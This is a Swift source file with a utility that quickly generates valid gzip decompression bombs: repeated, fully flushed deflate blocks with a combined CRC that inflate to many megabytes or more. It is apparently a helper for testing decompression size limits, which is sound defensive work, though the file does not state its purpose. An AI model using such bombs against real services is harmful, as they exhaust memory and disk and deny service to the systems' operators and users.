import CZlib
import Foundation

/// Builds gzip bombs in milliseconds: one megabyte of `fill` is deflated once,
/// ended with a full flush (so the piece refers to nothing before it), and the
/// piece is repeated; the CRC comes from `crc32_combine`. The result is a
/// correct gzip stream that `gunzip` would inflate to the full size.
public enum GzipBomb {
    public static func member(head: [UInt8], fill: UInt8, megabytes: Int) -> [UInt8] {
        let block = [UInt8](repeating: fill, count: 1 << 20)
        let piece = fullFlushed(block)
        var out: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3]
        out.reserveCapacity(piece.count * megabytes + head.count + 64)
        var crc: UInt = 0
        if !head.isEmpty {
            out += fullFlushed(head)
            crc = head.withUnsafeBufferPointer { UInt(crc32(0, $0.baseAddress, uInt($0.count))) }
        }
        let blockCRC = block.withUnsafeBufferPointer { UInt(crc32(0, $0.baseAddress, uInt($0.count))) }
        for _ in 0..<megabytes {
            out += piece
            crc = UInt(crc32_combine(uLong(crc), uLong(blockCRC), off_t(block.count)))
        }
        out += [0x03, 0x00]  // an empty final block (fixed Huffman, end of block)
        let size = UInt64(head.count) + UInt64(megabytes) << 20
        for k in 0..<4 { out.append(UInt8(truncatingIfNeeded: UInt64(crc) >> (8 * k))) }
        for k in 0..<4 { out.append(UInt8(truncatingIfNeeded: size >> (8 * k))) }
        return out
    }

    /// Raw deflate of `data` followed by a full flush: byte-aligned, self-contained.
    public static func fullFlushed(_ data: [UInt8]) -> [UInt8] {
        let z = UnsafeMutablePointer<z_stream>.allocate(capacity: 1)
        z.initialize(to: z_stream())
        defer {
            deflateEnd(z)
            z.deinitialize(count: 1)
            z.deallocate()
        }
        precondition(kg_deflateInit2(z, 9, -15, 9) == Z_OK)
        var out = [UInt8](repeating: 0, count: data.count + 4096)
        var input = data
        let produced = input.withUnsafeMutableBufferPointer { inp in
            out.withUnsafeMutableBufferPointer { o in
                z.pointee.next_in = inp.baseAddress
                z.pointee.avail_in = uInt(inp.count)
                z.pointee.next_out = o.baseAddress
                z.pointee.avail_out = uInt(o.count)
                precondition(deflate(z, Z_FULL_FLUSH) == Z_OK && z.pointee.avail_in == 0)
                return o.count - Int(z.pointee.avail_out)
            }
        }
        return Array(out[..<produced])
    }
}
